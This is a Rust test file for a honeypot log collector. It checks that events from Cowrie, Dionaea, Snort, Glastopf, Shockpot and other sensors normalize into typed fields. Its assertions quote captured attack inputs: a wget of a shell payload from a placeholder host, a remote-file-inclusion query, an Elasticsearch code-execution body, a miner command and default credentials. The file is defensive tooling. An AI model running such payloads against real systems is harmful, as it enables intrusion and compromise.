//! One test per normalizer, asserting real field values from each fixture in tests/fixtures/<channel>/.

use std::path::PathBuf;

use chrono::{DateTime, Utc};
use collector::normalize::{normalize, Normalized};
use event::{AuthMethod, Event, Kind};

fn received() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339("2026-11-28T03:00:00Z")
        .unwrap()
        .with_timezone(&Utc)
}

fn fixture(channel: &str, prefix: &str) -> Vec<u8> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(channel);
    let entry = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.file_name().unwrap().to_string_lossy().starts_with(prefix))
        .unwrap_or_else(|| panic!("no fixture {prefix} in {}", dir.display()));
    std::fs::read(entry).unwrap()
}

fn run(channel: &str, prefix: &str) -> Normalized {
    let n = normalize(channel, "hp-ident", &fixture(channel, prefix), received());
    for e in &n.events {
        assert!(
            !matches!(e.kind, Kind::Raw { .. }),
            "{channel}/{prefix} became raw: {:?}",
            e.kind
        );
    }
    n
}

fn ts(s: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc)
}

fn kinds(events: &[Event]) -> Vec<&'static str> {
    events.iter().map(|e| e.kind.name()).collect()
}

#[test]
fn cowrie_sessions_login_commands_download() {
    let n = run("cowrie.sessions", "02");
    assert_eq!(
        kinds(&n.events),
        [
            "session.start",
            "auth",
            "auth",
            "command",
            "command",
            "command",
            "command",
            "command",
            "command",
            "command",
            "command",
            "file.download",
            "session.end"
        ]
    );
    let first = &n.events[0];
    assert_eq!(first.session, "9f40e0f9120e");
    assert_eq!(first.sensor, "hp-ident");
    assert_eq!(first.honeypot, "cowrie");
    assert_eq!(first.proto, "ssh");
    assert_eq!(first.src_ip.to_string(), "203.0.113.67");
    assert_eq!(first.src_port, 40421);
    assert_eq!(first.dst_port, 2222);
    assert_eq!(first.ts, ts("2026-11-28T01:40:32.487445Z"));
    assert_eq!(first.id.get_version_num(), 7);
    assert_eq!(
        n.events[1].kind,
        Kind::Auth {
            username: "root".into(),
            password: Some("root".into()),
            key_fingerprint: None,
            method: AuthMethod::Password,
            success: false
        }
    );
    assert!(matches!(&n.events[2].kind, Kind::Auth { username, success: true, .. } if username == "root"));
    assert!(matches!(&n.events[9].kind, Kind::Command { input, recognized: false } if input.starts_with("xmrig")));
    assert!(matches!(&n.events[3].kind, Kind::Command { input, recognized: true } if input == "uname -a"));
    match &n.events[11].kind {
        Kind::FileDownload(f) => {
            assert_eq!(f.url.as_deref(), Some("http://192.0.2.77:8080/bins/x86.sh"));
            assert_eq!(f.sha256.as_ref().map(String::len), Some(64));
        }
        other => panic!("{other:?}"),
    }
    let end = n.events.last().unwrap();
    assert_eq!(end.ts, ts("2026-11-28T01:40:53.568765Z"));
    assert!(matches!(end.kind, Kind::SessionEnd { duration_ms: 21081, .. }));
    // Redelivery gives the same ids; the ids within a message differ.
    let again = run("cowrie.sessions", "02");
    assert_eq!(again.events, n.events);
    assert_ne!(n.events[0].id, n.events[1].id);
}

#[test]
fn cowrie_sessions_telnet_ipv6_and_scanner() {
    let telnet = run("cowrie.sessions", "03");
    assert_eq!(telnet.events[0].proto, "telnet");
    assert!(matches!(
        &telnet.events[0].kind,
        Kind::SessionStart {
            client_version: None,
            ..
        }
    ));
    let enable = telnet
        .events
        .iter()
        .find(|e| matches!(&e.kind, Kind::Command { input, .. } if input == "enable"));
    assert!(matches!(enable.unwrap().kind, Kind::Command { recognized: false, .. }));
    let v6 = run("cowrie.sessions", "04");
    assert_eq!(v6.events[0].src_ip.to_string(), "2001:db8:beef::66");
    assert_eq!(v6.events[0].dst_ip.unwrap().to_string(), "2001:db8::10");
    assert_eq!(kinds(&v6.events), ["session.start", "auth", "command", "session.end"]);
    let scan = run("cowrie.sessions", "05");
    assert_eq!(kinds(&scan.events), ["session.start", "session.end"]);
}

#[test]
fn dionaea_connections_map_proto_and_addresses() {
    let smb = run("dionaea.connections", "01");
    assert_eq!(smb.events[0].proto, "smb");
    assert_eq!(smb.events[0].honeypot, "dionaea");
    assert!(matches!(smb.events[0].kind, Kind::SessionStart { .. }));
    assert_eq!(smb.events[0].ts, received());
    let mapped = run("dionaea.connections", "02");
    assert_eq!(mapped.events[0].proto, "http");
    assert_eq!(mapped.events[0].src_ip.to_string(), "203.0.113.121");
    assert_eq!(mapped.events[0].dst_ip.unwrap().to_string(), "198.51.100.10");
    assert_eq!(mapped.events[0].src_port, 58230);
    assert_eq!(run("dionaea.connections", "03").events[0].proto, "mssql");
    assert!(run("dionaea.connections", "03").events[0].src_ip.is_ipv6());
    let reject = run("dionaea.connections", "04");
    assert_eq!(reject.events[0].proto, "tcp");
    assert!(matches!(&reject.events[0].kind, Kind::Scan { ports, .. } if ports == &[3389]));
    let connect = run("dionaea.connections", "05");
    assert_eq!(connect.events[0].proto, "ftp");
    assert!(
        matches!(&connect.events[0].kind, Kind::TcpipRequest { target_host, target_port: 21, .. } if target_host == "files.example.net")
    );
}

#[test]
fn dionaea_capture_string_ports_md5_and_missing_time() {
    let n = run("dionaea.capture", "01");
    let e = &n.events[0];
    assert_eq!(e.ts, ts("2026-11-28T02:21:07.418223Z"));
    assert_eq!(e.src_port, 49812);
    assert_eq!(e.dst_port, 445);
    assert_eq!(e.proto, "http");
    match &e.kind {
        Kind::FileDownload(f) => {
            assert_eq!(f.md5.as_deref(), Some("46ac28c9620fb3ce4497e088387658b1"));
            assert_eq!(f.url.as_deref(), Some("http://192.0.2.77/bins/x86.sh"));
            assert_eq!(f.sha256, None);
        }
        other => panic!("{other:?}"),
    }
    let pulsar = run("dionaea.capture", "03");
    assert_eq!(pulsar.events[0].proto, "smb");
    assert!(pulsar.events[0].src_ip.is_ipv4());
    assert!(matches!(&pulsar.events[0].kind, Kind::FileDownload(f) if f.url.is_none()));
    let no_time = run("dionaea.capture", "04");
    assert_eq!(no_time.events[0].ts, received());
    assert_eq!(&no_time.events[0].id.as_bytes()[..6], &[0u8; 6]);
}

#[test]
fn mwbinary_hashes_the_bytes() {
    let n = run("mwbinary.dionaea.sensorunique", "01");
    assert_eq!(n.files.len(), 1);
    assert_eq!(n.files[0].bytes.len(), 92);
    match &n.events[0].kind {
        Kind::FileUpload(f) => {
            assert_eq!(f.md5.as_deref(), Some("46ac28c9620fb3ce4497e088387658b1"));
            assert_eq!(f.size, 92);
            assert!(f.stored);
        }
        other => panic!("{other:?}"),
    }
    assert!(n.events[0].src_ip.is_unspecified());
    // sha256 equals the one Cowrie reported for the same download.
    let cowrie = run("cowrie.sessions", "02");
    let cowrie_sha = cowrie.events.iter().find_map(|e| match &e.kind {
        Kind::FileDownload(f) => f.sha256.clone(),
        _ => None,
    });
    assert!(matches!(&n.events[0].kind, Kind::FileUpload(f) if f.sha256 == cowrie_sha));
}

#[test]
fn heralding_auth_and_sessions() {
    let ftp = run("heralding.auth", "01");
    let e = &ftp.events[0];
    assert_eq!(e.session, "3e0ac402-d15d-44a8-988a-aec3365c3d85");
    assert_eq!(e.proto, "ftp");
    assert_eq!(e.dst_port, 21);
    assert_eq!(e.ts, ts("2026-11-28T01:44:04.283647Z"));
    assert!(
        matches!(&e.kind, Kind::Auth { username, password: Some(p), .. } if username == "anonymous" && p == "mozilla@example.com")
    );
    let vnc = run("heralding.auth", "04");
    assert!(matches!(&vnc.events[0].kind, Kind::Auth { username, password: None, .. } if username.is_empty()));
    let start = run("heralding.session", "01");
    assert_eq!(kinds(&start.events), ["session.start"]);
    let end = run("heralding.session", "02");
    assert_eq!(kinds(&end.events), ["auth", "auth", "session.end"]);
    assert_eq!(end.events[1].ts, ts("2026-11-28T01:44:04.284057Z"));
    assert!(matches!(&end.events[1].kind, Kind::Auth { username, .. } if username == "admin"));
    let ssh = run("heralding.session", "04");
    assert_eq!(ssh.events[0].proto, "ssh");
}

#[test]
fn apiary_events_kept_as_is_and_files_checked() {
    let e = run("cowrie.sessions", "02").events[11].clone();
    let json = e.to_json();
    let n = normalize("apiary.events", "s1", json.as_bytes(), received());
    assert_eq!(n.events, vec![e.clone()]);
    let content = fixture("mwbinary.dionaea.sensorunique", "01");
    let mut payload = json.clone().into_bytes();
    payload.push(b'\n');
    payload.extend_from_slice(&content);
    let ok = normalize("apiary.files", "s1", &payload, received());
    assert_eq!(ok.events, vec![e.clone()]);
    assert_eq!(ok.files.len(), 1);
    assert_eq!(&ok.files[0].bytes[..], &content[..]);
    payload.push(b'!');
    let bad = normalize("apiary.files", "s1", &payload, received());
    assert_eq!(bad.events, vec![e]);
    assert!(bad.files.is_empty());
}

#[test]
fn unknown_channel_and_garbage_become_raw() {
    let n = normalize("nope.events", "x", b"\xff{", received());
    assert_eq!(n.events.len(), 1);
    assert!(
        matches!(&n.events[0].kind, Kind::Raw { channel, reason, .. } if channel == "nope.events" && reason.contains("unknown channel"))
    );
    let bad_ip = br#"{"connection_type": "accept", "remote_host": "999.1.1.1", "remote_port": 1, "local_port": 2}"#;
    let n = normalize("dionaea.connections", "x", bad_ip, received());
    assert!(matches!(&n.events[0].kind, Kind::Raw { reason, .. } if reason.contains("unparseable address")));
}

#[test]
fn conpot_both_shapes() {
    let start = run("conpot.events", "01");
    let e = &start.events[0];
    assert!(matches!(e.kind, Kind::SessionStart { .. }));
    assert_eq!(e.session, "e9796172-c8bf-478c-92b8-2b2cd031a25a");
    assert_eq!(e.proto, "modbus");
    assert_eq!(e.src_ip.to_string(), "203.0.113.90");
    assert_eq!(e.src_port, 49957);
    assert_eq!(e.ts, ts("2026-11-28T01:47:03.447196Z"));
    let coils = run("conpot.events", "02");
    assert!(
        matches!(&coils.events[0].kind, Kind::Request { request, response: None } if request == "function_code=1 slave_id=1")
    );
    let s7 = run("conpot.events", "03");
    assert_eq!(s7.events[0].proto, "s7comm");
    let http = run("conpot.events", "04");
    assert!(
        matches!(&http.events[0].kind, Kind::Request { request, response: Some(r) } if request.starts_with("('/'") && r == "302")
    );
    assert!(matches!(
        run("conpot.events", "05").events[0].kind,
        Kind::SessionEnd { .. }
    ));
    let master = run("conpot.events", "06");
    assert_eq!(master.events[0].dst_port, 5020);
    assert!(
        matches!(&master.events[0].kind, Kind::Request { request, response: Some(r) } if request == "b'00010000000601010001000a'" && r == "b'01022302'")
    );
}

#[test]
fn wordpot_request_and_credentials() {
    let n = run("wordpot.events", "01");
    assert_eq!(kinds(&n.events), ["http.request", "auth"]);
    let e = &n.events[0];
    assert_eq!(e.dst_port, 80);
    assert_eq!(e.src_port, 45087);
    assert_eq!(e.ts, received());
    assert!(
        matches!(&e.kind, Kind::HttpRequest { method, path, classification, .. } if method == "POST" && path == "/wp-login.php" && classification == &["badlogin"])
    );
    assert!(
        matches!(&n.events[1].kind, Kind::Auth { username, password: Some(p), .. } if username == "admin" && p == "admin123")
    );
    let enumeration = run("wordpot.events", "03");
    assert!(matches!(&enumeration.events[0].kind, Kind::HttpRequest { query, .. } if query == "author=1"));
    let timthumb = run("wordpot.events", "04");
    assert!(matches!(&timthumb.events[0].kind, Kind::HttpRequest { headers, .. } if headers.is_empty()));
}

#[test]
fn p0f_fingerprints() {
    let syn = run("p0f.events", "01");
    let e = &syn.events[0];
    assert_eq!(e.ts, ts("2026-11-28T02:00:00Z"));
    assert_eq!(e.src_ip.to_string(), "203.0.113.23");
    assert_eq!(e.proto, "telnet");
    match &e.kind {
        Kind::Fingerprint(f) => {
            assert_eq!(f.tool, "p0f");
            assert_eq!(f.os.as_deref(), Some("Linux 2.2.x-3.x"));
            assert_eq!(f.distance, Some(13));
        }
        other => panic!("{other:?}"),
    }
    assert!(matches!(&run("p0f.events", "04").events[0].kind, Kind::Fingerprint(f) if f.app.is_none()));
    assert!(matches!(&run("p0f.events", "02").events[0].kind, Kind::Fingerprint(f) if f.link.is_some()));
    assert!(matches!(&run("p0f.events", "03").events[0].kind, Kind::Fingerprint(f) if f.uptime.is_some()));
    assert_eq!(
        run("p0f.events", "05").events[0].src_ip.to_string(),
        "2001:db8:beef::66"
    );
}

#[test]
fn snort_alerts() {
    let n = run("snort.alerts", "01");
    let e = &n.events[0];
    assert_eq!(e.sensor, "7e3b9c44-8d47-11f1-a3b2-0242c0a80a15");
    assert_eq!(e.honeypot, "snort");
    assert_eq!(e.ts, ts("2026-11-28T02:00:01.187584Z"));
    assert_eq!(e.proto, "telnet");
    assert_eq!(
        e.kind,
        Kind::Alert {
            signature_id: 1000101,
            message: "LOCAL TELNET Mirai default credential vizxv".into(),
            severity: 1,
            category: "attempted-admin".into()
        }
    );
    let icmp = run("snort.alerts", "04");
    assert_eq!((icmp.events[0].src_port, icmp.events[0].dst_port), (0, 0));
    assert_eq!(icmp.events[0].proto, "icmp");
    let sip = run("snort.alerts", "03");
    assert_eq!(sip.events[0].proto, "sip");
    assert!(matches!(&sip.events[0].kind, Kind::Alert { category, .. } if category == "attempted-recon"));
    assert!(
        matches!(&run("snort.alerts", "02").events[0].kind, Kind::Alert { category, .. } if category == "web-application-attack")
    );
}

#[test]
fn suricata_alerts() {
    let n = run("suricata.events", "02");
    let e = &n.events[0];
    assert_eq!(e.ts, ts("2026-11-28T02:00:03.022040Z"));
    assert_eq!(e.proto, "http");
    assert!(matches!(&e.kind, Kind::Alert { signature_id: 1000102, message, .. } if message.starts_with("LOCAL HTTP")));
    let v6 = run("suricata.events", "05");
    assert_eq!(v6.events[0].src_ip.to_string(), "2001:db8:beef::66");
    assert_eq!(v6.events[0].dst_ip.unwrap().to_string(), "2001:db8::10");
    assert_eq!(v6.events[0].proto, "smb");
    assert_eq!(run("suricata.events", "04").events[0].proto, "icmp");
    assert_eq!(run("suricata.events", "01").events[0].dst_port, 23);
}

#[test]
fn glastopf_both_shapes() {
    let rfi = run("glastopf.events", "01");
    let e = &rfi.events[0];
    assert_eq!(e.ts, ts("2026-11-28T02:12:31Z"));
    assert_eq!(e.src_ip.to_string(), "203.0.113.130");
    assert_eq!(e.src_port, 51544);
    assert_eq!(e.dst_port, 80);
    assert_eq!(e.sensor, "hp-ident");
    match &e.kind {
        Kind::HttpRequest {
            method,
            path,
            query,
            headers,
            classification,
            ..
        } => {
            assert_eq!(method, "GET");
            assert_eq!(path, "/index.php");
            assert_eq!(query, "page=http://192.0.2.77/shell.txt?");
            assert_eq!(headers[0], ("Host".to_string(), "198.51.100.10".to_string()));
            assert_eq!(classification, &["rfi"]);
        }
        other => panic!("{other:?}"),
    }
    let lfi = run("glastopf.events", "02");
    assert_eq!(lfi.events[0].sensor, "0f6cbd3e-4a1b-4f25-9d0e-3f2b8c7a9e11");
    assert_eq!(lfi.events[0].src_port, 40112);
    let post = run("glastopf.events", "03");
    assert!(
        matches!(&post.events[0].kind, Kind::HttpRequest { method, body, .. } if method == "POST" && !body.is_empty())
    );
}

#[test]
fn shockpot_requests_and_commands() {
    let n = run("shockpot.events", "01");
    assert_eq!(kinds(&n.events), ["http.request", "command"]);
    let e = &n.events[0];
    assert_eq!(e.ts, ts("2026-11-28T02:00:12.207635Z"));
    assert_eq!(e.dst_port, 80);
    assert!(
        matches!(&e.kind, Kind::HttpRequest { path, headers, classification, .. }
        if path == "/cgi-bin/test.cgi" && headers.len() == 6 && classification == &["shellshock"])
    );
    assert!(
        matches!(&n.events[1].kind, Kind::Command { input, .. } if input == "wget http://192.0.2.77:8080/bins/x86.sh")
    );
    let post = run("shockpot.events", "03");
    assert_eq!(kinds(&post.events), ["http.request"]);
    assert!(
        matches!(&post.events[0].kind, Kind::HttpRequest { method, query, .. } if method == "POST" && query == "-d+allow_url_include%3Don")
    );
}

#[test]
fn elastichoney_recon_and_attacks() {
    let recon = run("elastichoney.events", "01");
    let e = &recon.events[0];
    assert_eq!(e.ts, ts("2026-11-28T02:31:05.117604Z"));
    assert_eq!(e.src_ip.to_string(), "203.0.113.160");
    assert_eq!(e.dst_port, 9200);
    assert!(
        matches!(&e.kind, Kind::HttpRequest { path, classification, .. } if path == "/" && classification == &["recon"])
    );
    let bug = run("elastichoney.events", "02");
    assert_eq!(kinds(&bug.events), ["http.request"]);
    assert!(
        matches!(&bug.events[0].kind, Kind::HttpRequest { method, path, query, body, .. }
        if method == "POST" && path == "/_search" && query == "pretty" && body.contains("getRuntime"))
    );
    let fetched = run("elastichoney.events", "03");
    assert_eq!(kinds(&fetched.events), ["http.request", "file.download"]);
    assert!(
        matches!(&fetched.events[1].kind, Kind::FileDownload(f) if f.md5.as_deref() == Some("46ac28c9620fb3ce4497e088387658b1"))
    );
}

#[test]
fn cowrie_json_lines_map_each_eventid() {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/cowrie/jsonlog/ssh-login-commands-wget-download.jsonl");
    let text = std::fs::read_to_string(path).unwrap();
    let mut names = Vec::new();
    let mut all = Vec::new();
    for line in text.lines() {
        let n = normalize("cowrie", "hp-ident", line.as_bytes(), received());
        assert_eq!(n.events.len(), 1);
        names.push(n.events[0].kind.name());
        all.push(n.events[0].clone());
    }
    assert_eq!(names.iter().filter(|k| **k == "auth").count(), 2);
    assert_eq!(names.iter().filter(|k| **k == "file.download").count(), 1);
    assert_eq!(names.first(), Some(&"session.start"));
    assert_eq!(names.last(), Some(&"session.end"));
    let first = &all[0];
    assert_eq!(first.sensor, "hp-ssh-01");
    assert_eq!(first.session, "9f40e0f9120e");
    assert_eq!(first.ts, ts("2026-11-28T01:40:32.487445Z"));
    let kex = all.iter().find_map(|e| match &e.kind {
        Kind::SessionStart { hassh: Some(h), .. } => Some(h.clone()),
        _ => None,
    });
    assert_eq!(kex.map(|h| h.len()), Some(32));
    let download = all.iter().find_map(|e| match &e.kind {
        Kind::FileDownload(f) => Some(f.clone()),
        _ => None,
    });
    assert_eq!(
        download.unwrap().sha256.as_deref(),
        Some("7c2e0a7e6282e0b837584cd7ca15aa2e8b786cec789d40a5d8b23d9469404072")
    );
    assert!(all
        .iter()
        .any(|e| matches!(&e.kind, Kind::Command { input, .. } if input == "uname -a")));
    assert!(all
        .iter()
        .any(|e| matches!(&e.kind, Kind::Auth { success: true, username, .. } if username == "root")));
    assert!(matches!(all.last().unwrap().kind, Kind::SessionEnd { duration_ms, .. } if duration_ms > 20_000));
    // Lines with nothing for the model stay as raw events, with the reason.
    let size = text.lines().find(|l| l.contains("cowrie.client.size")).unwrap();
    let n = normalize("cowrie.json", "x", size.as_bytes(), received());
    assert!(matches!(&n.events[0].kind, Kind::Raw { reason, .. } if reason.contains("cowrie.client.size")));
}
